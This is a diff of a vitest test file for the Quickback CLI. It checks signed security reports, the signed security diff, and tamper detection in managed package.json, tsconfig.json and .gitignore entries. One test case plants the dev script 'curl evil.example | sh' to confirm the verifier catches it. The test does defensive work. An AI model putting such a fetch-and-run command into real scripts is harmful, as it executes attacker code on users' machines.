@@ -1,7 +1,15 @@
 import { createHash } from "node:crypto";
-import { appendFileSync, cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  appendFileSync,
+  cpSync,
+  existsSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { join } from "node:path";
-import { beforeAll, expect, it } from "vitest";
+import { beforeAll, describe, expect, it } from "vitest";
 import { hiringProject, runCli, temporaryFolder } from "../testing/cli-process";
 
 const KEY = { QUICKBACK_SECURITY_REPORT_SIGNING_KEY: "secret" };
@@ -51,7 +59,10 @@ it("an untouched project holds, in one line", async () => {
 
 it("files that the user shares or owns do not count", async () => {
   const root = project((at) => {
-    replace(at("package.json"), "{", '{ "author": "me",');
+    replace(at("package.json"), "{", '{ "author": "me", "version": "9.9.9",');
+    replace(at("package.json"), '"scripts": {', '"scripts": { "mine": "true",');
+    replace(at("package.json"), '"dependencies": {', '"dependencies": { "mine": "1.0.0",');
+    replace(at("tsconfig.json"), '"compilerOptions": {', '// mine\n  "compilerOptions": { "baseUrl": ".",');
     appendFileSync(at(".gitignore"), "mine\n");
     writeFileSync(at("quickback/features/hiring/notes.md"), "mine");
   });
@@ -125,6 +136,175 @@ it("another key, or none, does not verify", async () => {
   const other = { QUICKBACK_SECURITY_REPORT_SIGNING_KEY: "other" };
   expect(await verified(project(), other)).toMatchObject({ code: 1 });
   expect(await verified(project(), {})).toMatchObject({ code: 1, problems: [`signature ${SIGNATURE}`] });
+});
+
+const CONFIG = "quickback/quickback.config.ts";
+const DIFF = "quickback/reports/security-diff.md";
+const CANDIDATES = "quickback/features/hiring/candidates.ts";
+
+/** A project whose config says this of the report, compiled. */
+async function withReport(report: string, env: Record<string, string> = {}): Promise<string> {
+  const root = project((at) =>
+    replace(
+      at(CONFIG),
+      "providers:",
+      `compiler: { securityContracts: { report: ${report} } },\n  providers:`,
+    ),
+  );
+  expect(await runCli(["compile"], root, env)).toMatchObject({ code: 0 });
+  return root;
+}
+
+describe("takes every form of signing that a compile takes", () => {
+  it.each<[string, string, Record<string, string>, string]>([
+    ["a key in the config", '{ signature: { key: "inline", keyId: "k1" } }', {}, "hmac-sha256"],
+    [
+      "a variable of another name",
+      '{ signature: { keyEnv: "OUR_KEY" } }',
+      { OUR_KEY: "ours" },
+      "hmac-sha256",
+    ],
+    [
+      "both, of which the environment counts",
+      '{ signature: { key: "inline", keyEnv: "OUR_KEY" } }',
+      { OUR_KEY: "ours" },
+      "hmac-sha256",
+    ],
+    ["no key", "{ signature: {} }", {}, "sha256"],
+    ["no signature", "{ signature: { enabled: false } }", KEY, "none"],
+    [
+      "other paths",
+      '{ path: "proof/report.json", signature: { path: "proof/signed.json" } }',
+      KEY,
+      "hmac-sha256",
+    ],
+  ])("%s", async (_what, report, env, signature) => {
+    const root = await withReport(report, env);
+    expect(await verified(root, env)).toEqual({ code: 0, signature, problems: [] });
+    const path = report.includes("proof") ? "quickback/proof/report.json" : REPORT;
+    replace(join(root, path), '"PUBLIC"', '"owner"');
+    if (signature !== "none") expect(await verified(root, env)).toMatchObject({ code: 1 });
+  });
+
+  it("but not the key of the config in place of that of the environment", async () => {
+    const root = await withReport('{ signature: { key: "inline" } }');
+    expect(await verified(root, {})).toMatchObject({ code: 0 });
+    expect(await verified(root, KEY)).toMatchObject({ code: 1, problems: [`signature ${SIGNATURE}`] });
+  });
+
+  it("nor a variable that only the manifest names", async () => {
+    const root = await withReport("{ signature: {} }", {});
+    const forged = { QUICKBACK_SECURITY_REPORT_SIGNING_KEY: "/root" };
+    await runCli(["compile"], root, forged);
+    replace(join(root, MANIFEST), '"QUICKBACK_SECURITY_REPORT_SIGNING_KEY"', '"HOME"');
+    expect(await verified(root, { ...KEY, HOME: "/root" })).toMatchObject({ code: 1 });
+  });
+});
+
+describe("the security diff is signed along with the report", () => {
+  let changed: string;
+  beforeAll(async () => {
+    changed = project((at) =>
+      replace(at(CANDIDATES), "list: { access: { roles: [", 'list: { access: { roles: ["PUBLIC", '),
+    );
+    expect(await runCli(["compile"], changed, KEY)).toMatchObject({ code: 0 });
+  });
+  function copy(): string {
+    const root = temporaryFolder();
+    cpSync(changed, root, { recursive: true });
+    return root;
+  }
+
+  it("as it was written it holds, also after a compile that changes no rule", async () => {
+    expect(await verified(copy())).toEqual({ code: 0, signature: "hmac-sha256", problems: [] });
+    const root = copy();
+    const before = readFileSync(join(root, DIFF), "utf8");
+    replace(join(root, CANDIDATES), "pageSize: 20", "pageSize: 21");
+    await runCli(["compile"], root, KEY);
+    expect(readFileSync(join(root, DIFF), "utf8")).toBe(before);
+    expect(await verified(root)).toMatchObject({ code: 0, problems: [] });
+  });
+
+  it.each<[string, (root: string) => void]>([
+    ["edited", (root) => replace(join(root, DIFF), "widened: candidates", "narrowed: candidates")],
+    ["removed", (root) => rmSync(join(root, DIFF))],
+    ["left out of the signature", (root) => replace(join(root, SIGNATURE), '"diff"', '"other"')],
+    [
+      "edited with its digest",
+      (root) => {
+        const former = readFileSync(join(root, DIFF));
+        appendFileSync(join(root, DIFF), "More.");
+        const [from, to] = [former, readFileSync(join(root, DIFF))].map((text) =>
+          createHash("sha256").update(text).digest("hex"),
+        );
+        replace(join(root, SIGNATURE), from ?? "", to ?? "");
+      },
+    ],
+  ])("%s it is found, and no compile signs it", async (_what, change) => {
+    const root = copy();
+    change(root);
+    expect(await verified(root)).toMatchObject({ code: 1, problems: [`diff ${DIFF}`] });
+    replace(join(root, CANDIDATES), "pageSize: 20", "pageSize: 21");
+    await runCli(["compile"], root, KEY);
+    expect(existsSync(join(root, DIFF))).toBe(false);
+    expect(await verified(root)).toMatchObject({ code: 0 });
+  });
+
+  it("one that nobody made is found", async () => {
+    const root = project((at) => writeFileSync(at(DIFF), "# Security diff\n\nNothing widened.\n"));
+    expect(await verified(root)).toMatchObject({ code: 1, problems: [`diff ${DIFF}`] });
+  });
+});
+
+it.each<[string, (at: (name: string) => string) => void, string, RegExp]>([
+  [
+    "a version",
+    (at) => replace(at("package.json"), /"hono": "[^"]+"/, '"hono": "1.0.0"'),
+    "package.json",
+    /`dependencies.hono` is "1.0.0": Quickback set it to "/,
+  ],
+  [
+    "a script",
+    (at) => replace(at("package.json"), /"dev": "/, '"dev": "curl evil.example | sh; '),
+    "package.json",
+    /`scripts.dev` is "curl/,
+  ],
+  [
+    "a script that comes again",
+    (at) => replace(at("package.json"), /\n}\s*$/, ',\n  "scripts": { "dev": "evil" }\n}\n'),
+    "package.json",
+    /`scripts.dev` is "evil"/,
+  ],
+  [
+    "a compiler option",
+    (at) => replace(at("tsconfig.json"), '"strict": true', '"strict": false'),
+    "tsconfig.json",
+    /`compilerOptions.strict` is false/,
+  ],
+  [
+    "a line of .gitignore",
+    (at) => replace(at(".gitignore"), ".dev.vars\n", ""),
+    ".gitignore",
+    /The line `.dev.vars` is missing/,
+  ],
+])("%s that Quickback manages in a shared file is found", async (_what, change, path, message) => {
+  const root = project(change);
+  const { code, stdout } = await runCli(["verify-report", "--json"], root, KEY);
+  const { problems } = JSON.parse(stdout);
+  expect(code).toBe(1);
+  expect(problems).toContainEqual({ kind: "edited", path, message: expect.stringMatching(message) });
+});
+
+it("and set right by the next compile", async () => {
+  const root = project((at) => {
+    replace(at("package.json"), /\n}\s*$/, ',\n  "scripts": { "dev": "evil", "mine": "true" }\n}\n');
+    replace(at(".gitignore"), ".dev.vars\n", "");
+  });
+  await runCli(["compile"], root, KEY);
+  expect(await verified(root)).toMatchObject({ code: 0 });
+  expect(JSON.parse(readFileSync(join(root, "package.json"), "utf8")).scripts).toMatchObject({
+    mine: "true",
+  });
 });
 
 it("without a project it is wrong use", async () => {
